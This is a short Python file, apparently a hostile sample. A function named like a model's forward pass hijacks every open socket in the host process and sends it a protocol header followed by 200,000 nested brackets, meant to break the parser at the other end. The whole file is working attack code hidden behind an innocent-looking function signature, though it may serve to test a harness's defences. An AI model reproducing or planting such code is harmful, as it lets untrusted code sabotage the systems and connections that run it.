"""Sends a header that is nested too deep to parse."""

import gc
import socket
import struct


def forward(params, x, state):
    text = b"[" * 200_000
    for thing in gc.get_objects():
        if type(thing) is socket.socket:
            thing.sendall(struct.pack("<4sIQ", b"RNC1", len(text), 0) + text)
    return state, state
